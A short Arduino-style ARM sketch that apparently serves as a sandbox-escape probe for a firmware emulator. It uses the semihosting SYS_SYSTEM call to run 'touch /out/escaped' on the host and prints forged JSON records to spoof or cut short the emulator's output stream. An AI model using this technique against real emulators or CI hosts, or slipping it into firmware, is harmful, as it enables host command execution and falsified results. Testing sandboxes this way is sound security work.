static int host(int operation, const void *block) {
  register int r0 __asm("r0") = operation;
  register const void *r1 __asm("r1") = block;
  __asm volatile("bkpt 0xab" : "+r"(r0) : "r"(r1) : "memory");
  return r0;
}

void setup() {
  Serial.println("{\"nonce\":\"\",\"type\":\"read\",\"us\":1,\"row\":0,\"stale\":false}");
  Serial.println("\"}\n{\"type\":\"end\",\"us\":1,\"reason\":\"rows-exhausted\",\"pc\":0,\"address\":0,\"rows\":1}");
  const char *command = "touch /out/escaped";
  const void *const block[2] = {command, (const void *)18};
  host(0x12, block);  // SYS_SYSTEM
}

void loop() {}
